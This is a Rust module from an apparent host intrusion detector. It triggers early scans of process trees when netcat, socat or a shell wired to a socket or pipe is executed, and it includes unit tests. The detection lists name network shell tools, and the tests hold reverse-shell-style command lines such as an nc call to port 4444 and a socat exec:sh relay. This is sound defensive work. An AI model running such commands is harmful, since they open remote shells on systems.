//! Scanner passes sooner than the interval, when an exec makes its process tree worth a look now: a
//! netcat or socat (whose connection is what a reverse shell rides on), a shell with a socket for a
//! standard stream, or a shell reading its commands from a pipe. A relay that runs one command and
//! exits would otherwise be gone before the next periodic pass (500 ms by default) saw its socket.
//!
//! Each such exec asks for passes [`DELAYS`] after it (the far end connects a moment after it
//! starts); passes asked for within [`MERGE`] of one already due are merged, so a storm of shells
//! costs a few passes, not one per exec. The periodic passes are not moved. The names below only
//! decide when to look; what is found is judged by the rules (`policies/rules/lists.yaml`).
#![forbid(unsafe_code)]

use std::collections::VecDeque;
use std::time::{Duration, Instant};

use crate::events::{ExecEvent, Stdio};

/// Passes after a triggering exec: one while a loopback or nearby peer has connected, one for a far one.
pub const DELAYS: [Duration; 2] = [Duration::from_millis(20), Duration::from_millis(150)];
/// A pass due within this of another is that pass.
pub const MERGE: Duration = Duration::from_millis(15);
/// Early passes waiting at most.
const PENDING_MAX: usize = 8;

const NETWORK_TOOLS: &[&str] =
    &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "socat", "telnet"];
const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh", "ksh93", "mksh", "fish", "busybox"];

fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Whether this exec asks for an early look (pure: tested below).
pub fn wants_look(ev: &ExecEvent) -> bool {
    let names = [base(&ev.binary.path), ev.args.first().map_or("", |a| base(a))];
    if names.iter().any(|n| NETWORK_TOOLS.contains(n)) {
        return true;
    }
    if !names.iter().any(|n| SHELLS.contains(n)) {
        return false;
    }
    let socket = ev.stdio.iter().any(|s| matches!(s, Stdio::Socket { .. }));
    // No script and no `-c` string: the shell reads its commands from stdin.
    let reads_stdin = ev.args.iter().skip(1).all(|a| a.starts_with('-'));
    socket || (reads_stdin && matches!(ev.stdio[0], Stdio::Pipe { .. }))
}

/// The early passes asked for.
#[derive(Debug, Default)]
pub struct Soon {
    due: VecDeque<Instant>,
}

impl Soon {
    /// Asks for passes [`DELAYS`] after `now`.
    pub fn request(&mut self, now: Instant) {
        for d in DELAYS {
            let at = now + d;
            let merged = self.due.iter().any(|t| t.max(&at).duration_since(*t.min(&at)) <= MERGE);
            if !merged && self.due.len() < PENDING_MAX {
                let i = self.due.partition_point(|t| *t <= at);
                self.due.insert(i, at);
            }
        }
    }

    /// When the next early pass is due.
    pub fn next(&self) -> Option<Instant> {
        self.due.front().copied()
    }

    /// Whether an early pass is due at `now` (every one due by then is taken: one pass serves them).
    pub fn take_due(&mut self, now: Instant) -> bool {
        let mut any = false;
        while self.due.front().is_some_and(|t| *t <= now) {
            self.due.pop_front();
            any = true;
        }
        any
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::Binary;

    fn exec(path: &str, args: &[&str], stdin: Stdio) -> ExecEvent {
        ExecEvent {
            binary: Binary { path: path.into(), ..Default::default() },
            args: args.iter().map(|a| a.to_string()).collect(),
            stdio: [stdin, Stdio::Pipe { inode: 2 }, Stdio::Pipe { inode: 3 }],
            ..Default::default()
        }
    }

    fn tty() -> Stdio {
        Stdio::Tty { path: "/dev/pts/0".into() }
    }

    #[test]
    fn network_tools_and_shells_reading_pipes_or_sockets() {
        let pipe = Stdio::Pipe { inode: 1 };
        let socket = Stdio::Socket { inode: 5, peer: None };
        assert!(wants_look(&exec("/usr/bin/nc.openbsd", &["nc", "10.0.0.9", "4444"], tty())));
        assert!(wants_look(&exec("/tmp/x", &["socat", "tcp:h:1", "exec:sh"], tty())));
        assert!(wants_look(&exec("/bin/dash", &["sh", "-i"], pipe.clone())));
        assert!(wants_look(&exec("/bin/bash", &["bash"], socket.clone())));
        assert!(wants_look(&exec("/bin/bash", &["bash", "-c", "id"], socket)));
        // A script or a -c string in a pipeline, a shell on a terminal, other programs: no.
        assert!(!wants_look(&exec("/bin/dash", &["sh", "-c", "a | b"], pipe.clone())));
        assert!(!wants_look(&exec("/bin/bash", &["bash", "./entry.sh"], pipe.clone())));
        assert!(!wants_look(&exec("/bin/bash", &["bash", "-i"], tty())));
        assert!(!wants_look(&exec("/usr/bin/cat", &["cat"], pipe)));
    }

    #[test]
    fn passes_are_asked_for_merged_and_taken() {
        let t0 = Instant::now();
        let mut s = Soon::default();
        assert_eq!(s.next(), None);
        s.request(t0);
        assert_eq!(s.next(), Some(t0 + DELAYS[0]));
        // A second exec 5 ms later: merged with the first's passes.
        s.request(t0 + Duration::from_millis(5));
        assert_eq!(s.due.len(), 2);
        assert!(!s.take_due(t0 + Duration::from_millis(10)));
        assert!(s.take_due(t0 + Duration::from_millis(30)));
        assert_eq!(s.next(), Some(t0 + DELAYS[1]));
        // A storm asks for at most PENDING_MAX.
        for i in 0..100 {
            s.request(t0 + Duration::from_millis(40 * i));
        }
        assert!(s.due.len() <= PENDING_MAX);
        let due: Vec<Instant> = s.due.iter().copied().collect();
        assert!(due.windows(2).all(|w| w[0] <= w[1]), "in order");
        assert!(s.take_due(t0 + Duration::from_secs(60)));
        assert_eq!(s.next(), None);
    }
}
